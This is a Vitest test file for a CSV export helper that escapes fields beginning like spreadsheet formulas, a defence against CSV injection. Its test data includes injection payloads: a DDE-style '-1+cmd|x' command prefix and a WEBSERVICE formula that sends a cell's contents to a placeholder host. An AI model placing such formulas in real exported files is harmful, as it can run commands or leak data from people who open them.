import { describe, expect, it } from 'vitest';
import { headerCsv } from '../../../../src/ui/headers/header-statistics.ts';
import { csvField } from '../../../../src/ui/kit/csv-field.ts';

/** What spreadsheets take for the beginning of a formula (OWASP, “CSV injection”). */
const FORMULAS = [
  '=HYPERLINK("http://x")',
  '+1',
  '-1+cmd|x',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1',
  '\uFEFF=1',
];

describe('a field of CSV', () => {
  it.each(FORMULAS)('that begins like a formula is text: %j', (text) => {
    expect(csvField(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
  });

  it('that is no formula stays as it is, in quotes', () => {
    for (const text of ['CDP (byte 21)', 'time (ms) \\ Inline', 'a-b=c', "it's"])
      expect(csvField(text)).toBe(`"${text}"`);
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
  });
});

it('a header word that a user named like a formula is text in the table of headers', async () => {
  const words = [{ title: '=WEBSERVICE("http://x/?"&A2)', byte: 233 }];
  const table = await headerCsv(words, [Int32Array.of(7, -8)], null);
  expect((await table.text()).split('\r\n')).toEqual([
    'trace,"\'=WEBSERVICE(""http://x/?""&A2) (byte 233)"',
    '1,7',
    '2,-8',
    '',
  ]);
});
